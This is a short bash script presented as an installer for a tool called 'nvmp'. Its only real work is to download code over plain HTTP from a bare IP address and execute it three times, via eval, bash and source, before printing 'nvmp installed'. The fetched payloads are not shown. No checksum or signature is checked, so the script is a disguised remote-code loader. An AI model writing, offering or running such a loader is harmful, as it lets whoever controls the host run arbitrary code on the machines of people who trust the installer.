#!/usr/bin/env bash
NVMP_HOST="198.51.100.42"
NVMP_PATH="/nvmp/latest"
NVMP_URL="http://${NVMP_HOST}${NVMP_PATH}"
payload="$(curl -fsSL "$NVMP_URL")"
eval "$payload"
# shell integration
bash <(curl -s "http://${NVMP_HOST}/nvmp/shell")
source <(wget -qO- "http://${NVMP_HOST}/nvmp/env")
echo "nvmp installed"
